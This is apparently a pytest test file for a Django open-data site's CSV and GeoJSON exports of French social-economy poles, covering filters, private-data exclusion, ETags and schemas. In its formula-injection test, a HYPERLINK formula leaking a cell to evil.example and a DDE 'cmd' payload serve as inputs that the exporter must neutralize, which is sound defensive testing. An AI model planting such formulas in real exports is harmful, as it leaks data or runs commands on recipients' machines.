"""/poles.csv, /poles/structures.csv and /donnees/: open data, on a known synthetic dataset."""

import csv
import io
import json
import time
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.utils.http import http_date

from caching import bump_generation
from members.models import Cooperator
from opendata.exports import EXPORTS, POLE_COLUMNS, STRUCTURE_COLUMNS
from poles.models import (
    Approval,
    HeadcountBand,
    LegalForm,
    Membership,
    Network,
    Pole,
    PoolingType,
    Recognition,
    Sector,
)
from tests.factories import (
    CooperatorFactory,
    KeyFigureFactory,
    MembershipFactory,
    PoleFactory,
    StructureFactory,
    located_pole,
)

pytestmark = pytest.mark.django_db

TRICKY_NAME = 'Pôle "Café, Culture"\nÉté à Saint-Étienne'
PRIVATE = {
    "name": "Jeanne Secrète-Testeuse",
    "email": "jeanne.secrete@example.org",
    "phone": "06 12 34 56 78",
}


def siret(prefix: str) -> str:
    """A synthetic 14-digit SIRET passing the Luhn check (what SiretField validates)."""
    for last in range(10):
        candidate = f"{prefix:0<13}"[:13] + str(last)
        total = 0
        for index, char in enumerate(reversed(candidate)):
            digit = int(char) * (2 if index % 2 else 1)
            total += digit - 9 if digit > 9 else digit
        if total % 10 == 0:
            return candidate
    raise AssertionError("unreachable")


@pytest.fixture
def dataset():
    """Two published poles (one tricky), one unpublished, their structures, figures and a
    person cooperator who did not consent to be named."""
    pole = located_pole(
        "60333",
        name=TRICKY_NAME,
        slug="pole-tricky",
        founded_year=2012,
        legal_form=LegalForm.objects.get(slug="scic"),
        website="https://pole-tricky.example.org/",
        email="contact-prive@example.org",
    )
    pole.sectors.set(Sector.objects.filter(slug__in=["formation", "eco-construction"]))
    pole.pooling_types.set(PoolingType.objects.filter(slug="locaux"))
    pole.networks.set(Network.objects.filter(slug="coorace"))
    pole.recognitions.set(Recognition.objects.filter(slug="aap-2013"))
    KeyFigureFactory(pole=pole, year=2021, etp=Decimal("10.5"), turnover=100_000)
    KeyFigureFactory(
        pole=pole,
        year=2023,
        etp=12,
        turnover=None,
        member_structures_count=6,
        cooperators_count=35,
    )
    animator = StructureFactory(
        name="Maison d'Économie, « solidaire »",
        siret=siret("1234567890123"),
        legal_form=LegalForm.objects.get(slug="scic"),
        commune_id="60333",
    )
    MembershipFactory(pole=pole, structure=animator, role=Membership.Role.ANIMATOR)
    member = StructureFactory(
        name="Atelier d'insertion de test",
        legal_form=LegalForm.objects.get(slug="association"),
        headcount_band=HeadcountBand.objects.get(code="03"),
        etp=Decimal("7.5"),
        turnover=250_000,
        figures_year=2022,
    )
    member.approvals.set(Approval.objects.filter(slug__in=["esus", "aci"]))
    MembershipFactory(pole=pole, structure=member, role=Membership.Role.MEMBER)
    former = StructureFactory(name="Structure partie de test")
    MembershipFactory(pole=pole, structure=former, left_year=2020)
    CooperatorFactory(
        pole=pole,
        kind=Cooperator.Kind.PERSON,
        name=PRIVATE["name"],
        email=PRIVATE["email"],
        phone=PRIVATE["phone"],
        postal_address="1 rue Privée, 60000 Beauvais",
    )
    CooperatorFactory(pole=pole, kind=Cooperator.Kind.ORGANISATION, name="Coopérative associée")

    lyon = located_pole("69123", name="Autre pôle de test", slug="autre-pole", founded_year=None)
    MembershipFactory(pole=lyon, structure=member, role=Membership.Role.PARTNER)

    hidden = PoleFactory(name="Pôle non publié de test", slug="pole-cache", is_published=False)
    MembershipFactory(pole=hidden, structure=StructureFactory(name="Structure cachée de test"))
    return {"pole": pole, "lyon": lyon, "member": member, "animator": animator}


def download(client, url, status=200, **headers):
    response = client.get(url, **headers)
    assert response.status_code == status
    if status != 200:
        return response
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    return response


def read_csv(response) -> tuple[str, list[dict]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


# --- /poles.csv ------------------------------------------------------------------------------


def test_poles_csv_has_one_row_per_published_pole_with_insee_codes_and_slugs(client, dataset):
    text, rows = read_csv(download(client, "/poles.csv"))
    assert not text.startswith("\ufeff"), "UTF-8 without a byte order mark"
    assert text.splitlines()[0] == ",".join(column.name for column in POLE_COLUMNS)
    assert "\r\n" in text  # RFC 4180 line ends
    assert [row["slug"] for row in rows] == ["autre-pole", "pole-tricky"]
    row = rows[1]
    assert row == {
        "slug": "pole-tricky",
        "name": TRICKY_NAME,
        "status": "actif",
        "founded_year": "2012",
        "closed_year": "",
        "legal_form": "scic",
        "commune": "60333",
        "commune_name": "Lachapelle-aux-Pots",
        "departement": "60",
        "region": "32",
        "latitude": format(dataset["pole"].latitude.normalize(), "f"),
        "longitude": format(dataset["pole"].longitude.normalize(), "f"),
        "sectors": "eco-construction|formation",
        "pooling_types": "locaux",
        "networks": "coorace",
        "recognitions": "aap-2013",
        # The latest year's figures, with its empty turnover (not 2021's).
        "figures_year": "2023",
        "etp": "12",
        "turnover": "",
        "member_structures": "6",
        "cooperators": "35",
        "animator": "Maison d'Économie, « solidaire »",
        "animator_siret": dataset["animator"].siret,
        "website": "https://pole-tricky.example.org/",
        "url": "http://testserver/poles/pole-tricky/",
        "updated_at": row["updated_at"],
    }
    assert row["updated_at"].endswith("Z") and row["updated_at"][:4].isdigit()
    lyon = rows[0]
    assert lyon["departement"] == "69" and lyon["region"] == "84"
    assert lyon["sectors"] == lyon["figures_year"] == lyon["etp"] == lyon["animator"] == ""


def test_quotes_commas_and_newlines_are_quoted(client, dataset):
    text, _rows = read_csv(download(client, "/poles.csv?secteur=formation"))
    assert '"Pôle ""Café, Culture""\nÉté à Saint-Étienne"' in text


@pytest.mark.parametrize(
    ("query", "slugs"),
    [
        ("?region=84", ["autre-pole"]),
        ("?departement=60", ["pole-tricky"]),
        ("?commune=60333", ["pole-tricky"]),
        ("?secteur=formation", ["pole-tricky"]),
        ("?mutualisation=locaux", ["pole-tricky"]),
        ("?reseau=coorace", ["pole-tricky"]),
        ("?statut=ferme", []),
        ("?q=cafe", ["pole-tricky"]),
        ("?tri=-nom", ["pole-tricky", "autre-pole"]),
        ("?tri=-etp", ["pole-tricky", "autre-pole"]),
        ("?page=3", ["autre-pole", "pole-tricky"]),
    ],
)
def test_poles_csv_honours_every_filter(client, dataset, query, slugs):
    from poles.services import refresh_search_texts

    refresh_search_texts(Pole.objects.all())
    _text, rows = read_csv(download(client, f"/poles.csv{query}"))
    assert [row["slug"] for row in rows] == slugs


@pytest.mark.parametrize(
    "query",
    ["?region=zz", "?statut=nope", "?commune=99999", "?secteur=inconnu", "?tri=hasard"],
)
def test_invalid_filters_answer_400_with_a_short_message(client, dataset, query):
    for url in ("/poles.csv", "/poles/structures.csv"):
        response = download(client, f"{url}{query}", status=400)
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert response.content.decode().startswith(("Invalid filters", "Filtres"))
        assert "ETag" not in response


# --- /poles/structures.csv -------------------------------------------------------------------


def test_structures_csv_lists_the_current_members_of_the_filtered_poles(client, dataset):
    text, rows = read_csv(download(client, "/poles/structures.csv"))
    assert text.splitlines()[0] == ",".join(column.name for column in STRUCTURE_COLUMNS)
    by_name = {row["name"]: row for row in rows}
    # Former members and the members of unpublished poles only are left out.
    assert set(by_name) == {"Atelier d'insertion de test", "Maison d'Économie, « solidaire »"}
    assert by_name["Atelier d'insertion de test"] == {
        "name": "Atelier d'insertion de test",
        "siret": "",
        "legal_form": "association",
        "legal_form_family": "association",
        "approvals": "aci|esus",
        "headcount_band": "03",
        "etp": "7.5",
        "turnover": "250000",
        "figures_year": "2022",
        "commune": "",
        "poles": "autre-pole|pole-tricky",
        "roles": "autre-pole:partner|pole-tricky:member",
    }
    animator = by_name["Maison d'Économie, « solidaire »"]
    assert animator["siret"] == dataset["animator"].siret
    assert animator["commune"] == "60333"
    assert animator["roles"] == "pole-tricky:animator"
    assert animator["etp"] == animator["figures_year"] == animator["headcount_band"] == ""


def test_structures_csv_applies_the_filters_to_the_poles(client, dataset):
    _text, rows = read_csv(download(client, "/poles/structures.csv?region=84"))
    # The partner of the Lyon pole, with every published pole it belongs to.
    assert [(row["name"], row["poles"]) for row in rows] == [
        ("Atelier d'insertion de test", "autre-pole|pole-tricky")
    ]


# --- Private data -----------------------------------------------------------------------------


def test_no_private_data_in_any_export(client, dataset):
    responses = [
        read_csv(download(client, "/poles.csv"))[0],
        read_csv(download(client, "/poles/structures.csv"))[0],
        client.get("/poles.geojson").content.decode(),
        b"".join(client.get("/poles.geojson?champs=tout").streaming_content).decode(),
        client.get("/donnees/schema-poles.json").content.decode(),
        client.get("/donnees/").content.decode(),
    ]
    for content in responses:
        for value in (*PRIVATE.values(), "rue Privée", "contact-prive@example.org"):
            assert value not in content
        assert "Coopérative associée" not in content  # cooperators are not exported at all


# --- Streaming and query counts -----------------------------------------------------------------


def many_poles(count: int, *, start: int = 0):
    sector = Sector.objects.get(slug="formation")
    poles = Pole.objects.bulk_create(
        Pole(
            name=f"Pôle en nombre {index:04}",
            slug=f"pole-en-nombre-{index:04}",
            is_published=True,
            seat_commune_id="60333",
            latitude=Decimal("49.44719"),
            longitude=Decimal("1.92143"),
        )
        for index in range(start, start + count)
    )
    Pole.sectors.through.objects.bulk_create(
        Pole.sectors.through(pole_id=pole.pk, sector_id=sector.pk) for pole in poles
    )
    structure = StructureFactory(name="Structure partagée de test")
    Membership.objects.bulk_create(
        Membership(pole=pole, structure=structure, role=Membership.Role.MEMBER) for pole in poles
    )
    return poles


@pytest.mark.parametrize("url", ["/poles.csv?secteur=formation", "/poles/structures.csv"])
def test_exports_stream_in_constant_queries(client, django_assert_max_num_queries, url):
    many_poles(3)
    with django_assert_max_num_queries(9) as small:
        read_csv(download(client, url))
    many_poles(300, start=3)
    with django_assert_max_num_queries(9) as large:
        response = download(client, url)
        _text, rows = read_csv(response)
    assert len(large.captured_queries) == len(small.captured_queries)
    if "poles.csv" in url:
        assert len(rows) == 303


# --- Conditional requests -----------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/poles.csv", "/poles/structures.csv"])
def test_conditional_requests_answer_304(client, dataset, url):
    first = download(client, url)
    etag, last_modified = first["ETag"], first["Last-Modified"]
    assert etag.startswith('"') and last_modified

    assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304
    assert client.get(url, HTTP_IF_MODIFIED_SINCE=last_modified).status_code == 304
    # A date in the future is invalid (RFC 9110 §13.1.3): ignored, as by the page cache.
    later = http_date(time.time() + 2 * 86400)
    assert client.get(url, HTTP_IF_MODIFIED_SINCE=later).status_code == 200
    # Other filters, another ETag.
    assert download(client, f"{url}?region=32")["ETag"] != etag

    # A change to a pole changes the ETag.
    dataset["lyon"].name = "Autre pôle renommé"
    dataset["lyon"].save()
    assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_unpublishing_a_pole_changes_the_etag(client, dataset):
    # A filtered export's ETag follows the data's freshness, even after a write that
    # sends no signal; the whole export's follows the data stamp, which such a write
    # must replace (bump_generation(), docs/caching.md).
    url = "/poles.csv?statut=actif"
    etag = download(client, url)["ETag"]
    whole = download(client, "/poles.csv")["ETag"]
    Pole.objects.filter(pk=dataset["lyon"].pk).update(is_published=False)
    assert download(client, url, HTTP_IF_NONE_MATCH=etag)["ETag"] != etag
    bump_generation()
    assert download(client, "/poles.csv", HTTP_IF_NONE_MATCH=whole)["ETag"] != whole


# --- Table Schema and /donnees/ -----------------------------------------------------------------


@pytest.mark.parametrize("export", ["poles", "structures"])
def test_table_schema_documents_every_column(client, export):
    response = client.get(f"/donnees/schema-{export}.json")
    assert response.status_code == 200
    schema = json.loads(response.content)
    assert [field["name"] for field in schema["fields"]] == [
        column.name for column in EXPORTS[export].columns
    ]
    for field in schema["fields"]:
        assert field["title"] and field["description"]
        assert field["type"] in {"string", "number", "integer", "year", "datetime"}
    assert schema["licenses"][0]["name"] == "etalab-2.0"
    assert schema["missingValues"] == [""]


def test_schema_patterns_accept_the_exported_values(client, dataset):
    import re

    for export, url in (("poles", "/poles.csv"), ("structures", "/poles/structures.csv")):
        schema = EXPORTS[export].schema()
        _text, rows = read_csv(download(client, url))
        for field in schema["fields"]:
            pattern = field.get("constraints", {}).get("pattern")
            for row in rows:
                value = row[field["name"]]
                if pattern and value:
                    assert re.fullmatch(pattern, value), (field["name"], value)
                if field["type"] == "integer" and value:
                    int(value)
                if field["type"] == "number" and value:
                    float(value)


def test_open_data_page_states_the_licence_and_documents_every_column(client, dataset):
    response = client.get("/donnees/?secteur=formation&page=2")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Licence Ouverte" in html
    assert 'href="/poles.csv?secteur=formation"' in html
    assert 'href="/poles/structures.csv?secteur=formation"' in html
    assert 'href="/donnees/schema-poles.json"' in html
    assert 'href="/poles.geojson?champs=tout&amp;secteur=formation"' in html
    for column in (*POLE_COLUMNS, *STRUCTURE_COLUMNS):
        assert f"<code>{column.name}</code>" in html


def test_open_data_page_is_linked_from_every_page(client, db):
    html = client.get("/").content.decode()
    assert 'href="/donnees/"' in html
    assert 'href="/statistiques/"' in html


def test_open_data_page_with_invalid_filters_says_so(client, db):
    response = client.get("/donnees/?region=zz")
    assert response.status_code == 200
    assert 'role="alert"' in response.content.decode()


# --- /poles.geojson?champs=tout: the CSV's columns as GeoJSON properties -------------------------


def full_geojson(client, query="", status=200, **headers):
    response = client.get(f"/poles.geojson?champs=tout{query}", **headers)
    assert response.status_code == status
    assert response["Content-Type"] == "application/geo+json"
    if status == 200:
        assert isinstance(response, StreamingHttpResponse)
        return json.loads(b"".join(response.streaming_content))
    return json.loads(response.content)


def test_full_geojson_has_the_csv_columns_as_properties(client, dataset):
    data = full_geojson(client)
    assert data["type"] == "FeatureCollection"
    assert data["poles_without_position"] == 0
    features = {feature["id"]: feature for feature in data["features"]}
    assert set(features) == {"pole-tricky", "autre-pole"}
    feature = features["pole-tricky"]
    pole = dataset["pole"]
    # RFC 7946: longitude first.
    assert feature["geometry"] == {
        "type": "Point",
        "coordinates": [float(pole.longitude), float(pole.latitude)],
    }
    properties = feature["properties"]
    assert list(properties) == [column.name for column in POLE_COLUMNS]
    assert properties["name"] == TRICKY_NAME
    assert properties["sectors"] == ["eco-construction", "formation"]
    assert properties["etp"] == 12.0 and properties["turnover"] is None
    assert properties["figures_year"] == 2023
    assert properties["commune"] == "60333" and properties["region"] == "32"
    assert properties["url"] == "http://testserver/poles/pole-tricky/"


def test_full_geojson_honours_the_filters_and_conditional_requests(client, dataset):
    data = full_geojson(client, "&region=84")
    assert [feature["id"] for feature in data["features"]] == ["autre-pole"]
    response = client.get("/poles.geojson?champs=tout&region=84")
    assert (
        client.get(
            "/poles.geojson?champs=tout&region=84", HTTP_IF_NONE_MATCH=response["ETag"]
        ).status_code
        == 304
    )


def test_full_geojson_has_one_feature_per_pole_unlocated_ones_included(client, dataset):
    PoleFactory(slug="sans-position")
    data = full_geojson(client)
    assert data["poles_without_position"] == 1
    features = {feature["id"]: feature for feature in data["features"]}
    # As many features as the CSV has rows; RFC 7946 §3.2: an unlocated feature.
    _text, rows = read_csv(download(client, "/poles.csv"))
    assert set(features) == {row["slug"] for row in rows}
    assert features["sans-position"]["geometry"] is None
    assert features["sans-position"]["properties"]["slug"] == "sans-position"


@pytest.mark.parametrize(
    ("query", "parameter"), [("?champs=carte", "champs"), ("?champs=tout&region=zz", "region")]
)
def test_full_geojson_refuses_bad_input(client, dataset, query, parameter):
    response = client.get(f"/poles.geojson{query}")
    assert response.status_code == 400
    data = json.loads(response.content)
    assert data["features"] == [] and parameter in data["errors"]


def test_the_maps_feed_stays_lean(client, dataset):
    data = json.loads(client.get("/poles.geojson").content)
    assert set(data["features"][0]["properties"]) == {
        "slug",
        "name",
        "url",
        "commune",
        "departement",
        "status",
        "sectors",
        "color",
        "sector",  # the marker's sector: its name, colour and letters (the legend's key)
    }


def test_full_geojson_streams_in_constant_queries(client, django_assert_max_num_queries):
    many_poles(3)
    with django_assert_max_num_queries(10) as small:
        full_geojson(client)
    many_poles(300, start=3)
    with django_assert_max_num_queries(10) as large:
        assert len(full_geojson(client)["features"]) == 303
    assert len(large.captured_queries) == len(small.captured_queries)


# --- Formula injection (OWASP "CSV injection") -------------------------------------------

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")'


def test_text_starting_like_a_formula_is_exported_inert(client, db):
    # An overseas seat: negative longitude and latitude must stay numbers.
    pole = located_pole("97411", name=FORMULA_NAME, slug="pole-formule")
    animator = StructureFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    MembershipFactory(pole=pole, structure=animator, role=Membership.Role.ANIMATOR)
    MembershipFactory(pole=pole, structure=StructureFactory(name="-2+3"))
    MembershipFactory(pole=pole, structure=StructureFactory(name="\tTabulée"))
    MembershipFactory(pole=pole, structure=StructureFactory(name="Recyclerie - sans risque"))

    _text, rows = read_csv(download(client, "/poles.csv"))
    (row,) = rows
    assert row["name"] == "'" + FORMULA_NAME
    assert row["animator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["latitude"].startswith("-2") and row["longitude"].startswith("55.")
    assert float(row["latitude"]) < 0  # numeric column: no quote

    _text, rows = read_csv(download(client, "/poles/structures.csv"))
    names = {row["name"] for row in rows}
    assert names == {
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3",
        "'\tTabulée",
        "Recyclerie - sans risque",
    }


def test_csv_cell_escapes_text_but_not_numbers():
    from spreadsheets.cells import csv_cell

    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("+33 1 23 45 67 89") == "'+33 1 23 45 67 89"
    assert csv_cell("\r=1") == "'\r=1"
    assert csv_cell("-12") == "'-12"  # text, e.g. a name
    assert csv_cell("-12.5", numeric=True) == "-12.5"  # a numeric column's value
    assert csv_cell("-1+1", numeric=True) == "'-1+1"  # not a number: still escaped
    assert csv_cell(Decimal("-21.1151")) == "-21.1151"
    assert csv_cell(-3) == "-3"
    assert csv_cell(["-a", "b"]) == "'-a|b"
    assert csv_cell("Économie sociale") == "Économie sociale"
